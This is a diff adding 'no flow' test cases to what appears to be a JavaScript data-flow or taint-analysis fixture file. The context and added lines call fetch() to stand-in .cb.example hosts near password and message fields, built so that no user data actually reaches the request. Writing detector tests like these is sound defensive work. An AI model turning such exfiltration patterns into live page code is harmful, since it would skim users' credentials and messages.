@@ -114,3 +114,24 @@ const sendIt = (v) => fetch('https://removed.cb.example/r', { method: 'POST', bo
 subs.add(sendIt);
 subs.delete(sendIt);
 subs.forEach((f) => f(document.querySelector('input[type=password]').value));
+
+//# event-constructor-without-detail
+// no flow
+// why: the typed text is not handed to the event, its detail is null
+addEventListener('note', (e) => fetch('https://nodetail.cb.example/n', { method: 'POST', body: String(e.detail) }));
+const noteText = document.querySelector('textarea[name=message]').value;
+dispatchEvent(new CustomEvent('note', { data: noteText }));
+
+//# timer-argument-order
+// no flow
+// why: the second argument that the timer hands on is left unused
+setTimeout((kind, text) => fetch('https://order.cb.example/t?k=' + kind), 50, 'draft', document.querySelector('textarea[name=message]').value);
+
+//# submit-prevented
+// no flow
+// why: the handler keeps the form from being sent and shows a count
+document.forms[0].addEventListener('submit', function (e) {
+  e.preventDefault();
+  document.querySelector('#n').textContent = this.elements.length;
+  fetch('https://prevented.cb.example/tick', { method: 'POST' });
+});
